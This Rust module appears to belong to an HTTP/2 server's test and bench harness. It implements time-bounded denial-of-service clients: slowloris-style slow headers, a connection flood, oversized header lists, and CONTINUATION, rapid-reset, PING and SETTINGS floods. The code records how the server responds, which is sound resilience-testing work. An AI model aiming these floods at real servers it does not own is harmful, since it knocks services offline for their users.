//! The attacks made of hand-written frames ([`super::wire`]): slow headers, a connection flood,
//! header lists over the limit, and the CONTINUATION, rapid-reset, PING and SETTINGS floods.
//!
//! Each is bounded in count and in time (`hold`, plus a short drain to read the server's last
//! frames) and returns what it observed. They must not judge what they saw: the tests and the
//! bench do.

use std::future::Future;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use futures_util::StreamExt;
use tokio::io::AsyncWriteExt;

use super::wire::{self, RawConn, Reading, Tally, flag, kind};
use super::{ECHO, Observed};

/// Time to read the server's last frames after an attack stops writing.
const DRAIN: Duration = Duration::from_millis(300);
/// Limit on one connection's handshake.
const HANDSHAKE: Duration = Duration::from_secs(3);

/// Adds a connection's tally to `observed`: its GOAWAY, whether it was closed, answered streams.
fn absorb(observed: &mut Observed, tally: &Tally) {
    if let Some((_, code)) = tally.goaway {
        *observed.goaways.entry(code).or_default() += 1;
    }
    if tally.goaway.is_some() || tally.closed_after.is_some() {
        observed.closed += 1;
    }
    observed.answered += tally.streams_with_data;
    for (code, n) in &tally.resets {
        observed.add(&format!("reset:{code}"), *n);
    }
}

/// `conns` connections that send their bytes one at a time, one every `every`, for `hold`:
/// even ones trickle the preface itself, odd ones send the preface and SETTINGS at once and
/// trickle a HEADERS frame. Outcomes: `preface closed`/`preface held` and `headers
/// closed`/`headers held` (whether the server sent the connection away or closed it before
/// `hold` ended); `peak` is the longest a connection was held open before that, in ms.
pub(super) async fn slow_headers(
    addr: SocketAddr,
    conns: usize,
    every: Duration,
    hold: Duration,
) -> Observed {
    let started = Instant::now();
    let until = started + hold;
    let tasks: Vec<_> = (0..conns)
        .map(|i| {
            tokio::spawn(async move {
                let trickle_preface = i % 2 == 0;
                let mut headers = wire::header_frames(
                    1,
                    &wire::request_block(&addr.to_string(), ECHO, &[("x-sluice-monitor", "slow")]),
                    false,
                );
                let (fast, slow) = if trickle_preface {
                    let mut all = wire::PREFACE.to_vec();
                    all.extend(wire::settings(&[]));
                    all.append(&mut headers);
                    (Vec::new(), all)
                } else {
                    let mut fast = wire::PREFACE.to_vec();
                    fast.extend(wire::settings(&[]));
                    (fast, headers)
                };
                trickle(addr, &fast, &slow, every, until)
                    .await
                    .map(|(sent, closed)| (trickle_preface, sent, closed))
            })
        })
        .collect();
    let mut observed = Observed {
        attempts: conns as u64,
        ..Observed::default()
    };
    for task in tasks {
        let Ok(result) = task.await else { continue };
        let Ok((preface, sent, closed)) = result else {
            observed.add("connect failed", 1);
            continue;
        };
        observed.bytes_sent += sent;
        let what = if preface { "preface" } else { "headers" };
        let how = match closed {
            Some(after) => {
                observed.closed += 1;
                observed.peak = observed.peak.max(after.as_millis() as u64);
                "closed"
            }
            None => "held",
        };
        observed.add(&format!("{what} {how}"), 1);
    }
    observed.elapsed = started.elapsed();
    observed
}

/// Connects, writes `fast` at once, then `slow` a byte every `every` until `until`. Returns the
/// bytes written and, when the server sent the connection away (GOAWAY) or closed it before
/// `until`, after how long.
async fn trickle(
    addr: SocketAddr,
    fast: &[u8],
    slow: &[u8],
    every: Duration,
    until: Instant,
) -> std::io::Result<(u64, Option<Duration>)> {
    let started = Instant::now();
    let tcp = tokio::net::TcpStream::connect(addr).await?;
    tcp.set_nodelay(true)?;
    let (mut read, mut write) = tcp.into_split();
    // The server's frames are read until it sends the connection away or closes it.
    let closed = tokio::spawn(async move {
        loop {
            match wire::read_frame(&mut read).await {
                Ok((kind, ..)) if kind != kind::GOAWAY => {}
                _ => return started.elapsed(),
            }
        }
    });
    let mut sent = 0u64;
    let mut failed = write.write_all(fast).await.is_err();
    sent += fast.len() as u64;
    for byte in slow {
        if failed || Instant::now() >= until || closed.is_finished() {
            break;
        }
        tokio::time::sleep(every).await;
        failed = write.write_all(std::slice::from_ref(byte)).await.is_err();
        if !failed {
            sent += 1;
        }
    }
    // Whatever was sent, hold the connection until the end, as a slow client would.
    let left = until.saturating_duration_since(Instant::now());
    let ended = tokio::time::timeout(left + DRAIN, closed).await;
    Ok((sent, ended.ok().and_then(Result::ok)))
}

/// A connection sent away (GOAWAY or closed) this soon after its connect was refused, not
/// admitted and later found idle.
const REFUSED_WITHIN: Duration = Duration::from_millis(500);

/// Opens `conns` connections (32 handshakes at a time) and holds them for `hold`. `attempts` is
/// the connections tried; outcomes `refused` counts those the server sent away (GOAWAY) or
/// closed within [`REFUSED_WITHIN`] of their connect, `admitted` the others, `connect failed`
/// failed TCP connects; `goaways` and `closed` count every connection the server sent away,
/// whenever.
pub(super) async fn connection_flood(addr: SocketAddr, conns: usize, hold: Duration) -> Observed {
    let started = Instant::now();
    let opened: Vec<_> = futures_util::stream::iter(0..conns)
        .map(|_| RawConn::connect(addr, Reading::Drain, HANDSHAKE))
        .buffer_unordered(32)
        .collect()
        .await;
    tokio::time::sleep(hold.saturating_sub(started.elapsed())).await;
    let mut observed = Observed {
        attempts: conns as u64,
        ..Observed::default()
    };
    let mut held = Vec::new();
    for conn in opened {
        match conn {
            Ok(conn) => {
                observed.bytes_sent += conn.bytes_sent;
                held.push(conn.finish(DRAIN));
            }
            Err(_) => observed.add("connect failed", 1),
        }
    }
    for tally in futures_util::future::join_all(held).await {
        let refused = tally
            .sent_away_after()
            .is_some_and(|after| after <= REFUSED_WITHIN);
        let key = if refused { "refused" } else { "admitted" };
        observed.add(key, 1);
        absorb(&mut observed, &tally);
    }
    observed.elapsed = started.elapsed();
    observed
}

/// What one connection of an attack did.
struct Connection {
    /// What the attack sent on it, in the attack's unit (calls, streams, frames).
    sent: u64,
    /// Bytes written on it.
    bytes_sent: u64,
    /// What the server sent on it.
    tally: Tally,
}

/// Adds what a connection did to `observed` (a failed connect as outcome `connect failed`) and
/// returns its tally for the attack's own outcomes.
fn add(observed: &mut Observed, connection: Option<Connection>) -> Option<Tally> {
    let Some(connection) = connection else {
        observed.add("connect failed", 1);
        return None;
    };
    observed.attempts += connection.sent;
    observed.bytes_sent += connection.bytes_sent;
    absorb(observed, &connection.tally);
    Some(connection.tally)
}

/// Connects with `reading`, lets `attack` write (it hands the connection back with what it
/// sent), then reads the server's last frames. `None` when the connect failed.
async fn attack_one<F, Fut>(addr: SocketAddr, reading: Reading, attack: F) -> Option<Connection>
where
    F: FnOnce(RawConn) -> Fut,
    Fut: Future<Output = (u64, RawConn)>,
{
    let conn = RawConn::connect(addr, reading, HANDSHAKE).await.ok()?;
    let (sent, conn) = attack(conn).await;
    let bytes_sent = conn.bytes_sent;
    Some(Connection {
        sent,
        bytes_sent,
        tally: conn.finish(DRAIN).await,
    })
}

/// `conns` connections at once, each attacked with `attack`.
async fn side_by_side<F, Fut>(
    addr: SocketAddr,
    conns: usize,
    reading: Reading,
    attack: F,
) -> Vec<Option<Connection>>
where
    F: Fn(RawConn) -> Fut,
    Fut: Future<Output = (u64, RawConn)>,
{
    let attack = &attack;
    futures_util::future::join_all((0..conns).map(|_| attack_one(addr, reading, attack))).await
}

/// Connection after connection until `until`, each attacked with `attack` (given the
/// connection's number). `attempts` adds up what the attack sent; outcomes `connections` counts
/// the connections; `peak` is the most it sent on one.
async fn one_after_another<F, Fut>(addr: SocketAddr, until: Instant, mut attack: F) -> Observed
where
    F: FnMut(RawConn, u64) -> Fut,
    Fut: Future<Output = (u64, RawConn)>,
{
    let mut connections = Vec::new();
    while Instant::now() < until {
        let n = connections.len() as u64;
        let connection = attack_one(addr, Reading::Drain, |conn| attack(conn, n)).await;
        if connection.is_none() {
            // Refused: do not spin.
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        connections.push(connection);
    }
    let mut observed = Observed {
        peak: connections
            .iter()
            .flatten()
            .map(|c| c.sent)
            .max()
            .unwrap_or(0),
        ..Observed::default()
    };
    observed.add("connections", connections.len() as u64);
    for connection in connections {
        add(&mut observed, connection);
    }
    observed
}

/// Writes `bytes` unless `until` has passed; whether it was written (a server that stopped
/// reading leaves the write pending until `until`).
async fn send_by(conn: &mut RawConn, bytes: &[u8], until: Instant) -> bool {
    let left = until.saturating_duration_since(Instant::now());
    matches!(
        tokio::time::timeout(left, conn.send(bytes)).await,
        Ok(Ok(()))
    )
}

/// `conns` connections each sending `streams` Echo calls whose header lists are `bytes` long
/// (padding headers of 1,000 bytes), each call complete (an empty message ends it), until
/// `hold` passes. `attempts` is the calls sent; `answered` those that got a message back;
/// outcomes `refused` counts calls that ended without a message (a trailers-only answer or a
/// 431) and `reset:<code>` the streams reset.
pub(super) async fn header_flood(
    addr: SocketAddr,
    conns: usize,
    streams: usize,
    bytes: usize,
    hold: Duration,
) -> Observed {
    let started = Instant::now();
    let until = started + hold;
    let connections = side_by_side(addr, conns, Reading::Drain, |mut conn| async move {
        let value = vec![b'a'; 1000];
        let mut sent = 0u64;
        for _ in 0..streams {
            if Instant::now() >= until || conn.sent_away() {
                break;
            }
            let id = conn.stream_id();
            let monitor = ("x-sluice-monitor", "header-flood");
            let mut block = wire::request_block(&conn.authority, ECHO, &[monitor]);
            for k in 0.. {
                if block.len() >= bytes {
                    break;
                }
                wire::literal(&mut block, &format!("x-pad-{k}"), &value);
            }
            let mut frames = wire::header_frames(id, &block, false);
            frames.extend(wire::grpc_data(id, &[], true));
            if !send_by(&mut conn, &frames, until).await {
                break;
            }
            sent += 1;
        }
        // Let the answers arrive.
        let deadline = until.min(Instant::now() + Duration::from_secs(1));
        while Instant::now() < deadline && !conn.sent_away() {
            let tally = conn.tally();
            if tally.headers_ending_stream + tally.count(kind::RST_STREAM) >= sent {
                break;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        (sent, conn)
    })
    .await;
    let mut observed = Observed::default();
    for connection in connections {
        if let Some(tally) = add(&mut observed, connection) {
            // A call that succeeded ends with trailers too: one HEADERS with END_STREAM each.
            let refused = tally
                .headers_ending_stream
                .saturating_sub(tally.streams_with_data);
            observed.add("refused", refused);
        }
    }
    observed.elapsed = started.elapsed();
    observed
}

/// Connection after connection, one HEADERS frame without END_HEADERS followed by CONTINUATION
/// frames (up to `per_conn` of them, in writes of 64), until the server sends the connection
/// away or `hold` ends. Even connections send empty CONTINUATION frames, odd ones 1 KiB of
/// headers in each. `attempts` is the CONTINUATION frames written; outcomes `connections` the
/// connections used; `peak` the most frames written on one connection.
pub(super) async fn continuation_flood(
    addr: SocketAddr,
    per_conn: usize,
    hold: Duration,
) -> Observed {
    let started = Instant::now();
    let until = started + hold;
    let mut observed = one_after_another(addr, until, |mut conn, n| async move {
        let id = conn.stream_id();
        let monitor = ("x-sluice-monitor", "continuation");
        let block = wire::request_block(&conn.authority, ECHO, &[monitor]);
        if !send_by(&mut conn, &wire::frame(kind::HEADERS, 0, id, &block), until).await {
            return (0, conn);
        }
        let mut fragment = Vec::new();
        if n % 2 == 1 {
            wire::literal(&mut fragment, "x-pad", &[b'c'; 1000]);
        }
        let batch = wire::frame(kind::CONTINUATION, 0, id, &fragment).repeat(64);
        let mut sent = 0u64;
        while (sent as usize) < per_conn
            && !conn.sent_away()
            && send_by(&mut conn, &batch, until).await
        {
            sent += 64;
        }
        (sent, conn)
    })
    .await;
    observed.elapsed = started.elapsed();
    observed
}

/// Connection after connection, batches of `batch` streams each opened (HEADERS of an Echo
/// call) and at once reset (RST_STREAM CANCEL) in the same write, without reading anything in
/// between, until the server sends the connection away or `hold` ends. `attempts` is streams;
/// outcomes `connections` the connections used; `peak` the most streams one connection got to
/// open.
pub(super) async fn rapid_reset(addr: SocketAddr, batch: usize, hold: Duration) -> Observed {
    let started = Instant::now();
    let until = started + hold;
    let mut observed = one_after_another(addr, until, |mut conn, _| async move {
        let block = wire::request_block(&conn.authority, ECHO, &[("x-sluice-monitor", "reset")]);
        let mut opened = 0u64;
        // Stream ids run out at 2^31; a connection that gets that far is not sent away.
        while !conn.sent_away() && opened < 1 << 29 {
            let mut frames = Vec::with_capacity(batch * (block.len() + 30));
            for _ in 0..batch {
                let id = conn.stream_id();
                frames.extend(wire::frame(kind::HEADERS, flag::END_HEADERS, id, &block));
                frames.extend(wire::rst_stream(id, wire::CANCEL));
            }
            if !send_by(&mut conn, &frames, until).await {
                break;
            }
            opened += batch as u64;
        }
        (opened, conn)
    })
    .await;
    observed.elapsed = started.elapsed();
    observed
}

/// `conns` connections each writing `frames` (PING or SETTINGS frames, `per_write` of them) over
/// and over for `hold`, never reading the server's answers until the end. `attempts` is frames
/// written; outcomes `answers` the PING or SETTINGS acknowledgements the server had sent by
/// then.
async fn control_flood(
    addr: SocketAddr,
    conns: usize,
    frames: Vec<u8>,
    per_write: u64,
    hold: Duration,
) -> Observed {
    let started = Instant::now();
    let until = started + hold;
    let kind = frames[3];
    let connections = side_by_side(addr, conns, Reading::Ignore, |mut conn| {
        let batch = frames.clone();
        async move {
            let mut sent = 0;
            while Instant::now() < until && send_by(&mut conn, &batch, until).await {
                sent += per_write;
            }
            (sent, conn)
        }
    })
    .await;
    let mut observed = Observed::default();
    for connection in connections {
        if let Some(tally) = add(&mut observed, connection) {
            // The acknowledgement of the handshake's SETTINGS is not an answer to the flood.
            let handshake = u64::from(kind == kind::SETTINGS);
            observed.add("answers", tally.acks(kind).saturating_sub(handshake));
        }
    }
    observed.elapsed = started.elapsed();
    observed
}

/// [`control_flood`] with PING frames, 1,000 per write.
pub(super) async fn ping_flood(addr: SocketAddr, conns: usize, hold: Duration) -> Observed {
    let pings = wire::frame(kind::PING, 0, 0, b"abusive!").repeat(1000);
    control_flood(addr, conns, pings, 1000, hold).await
}

/// [`control_flood`] with SETTINGS frames, 1,000 per write, each changing
/// SETTINGS_INITIAL_WINDOW_SIZE (which the server must apply to every stream).
pub(super) async fn settings_flood(addr: SocketAddr, conns: usize, hold: Duration) -> Observed {
    let mut pair = wire::settings(&[(0x4, 65_535)]);
    pair.extend(wire::settings(&[(0x4, 65_536)]));
    control_flood(addr, conns, pair.repeat(500), 1000, hold).await
}
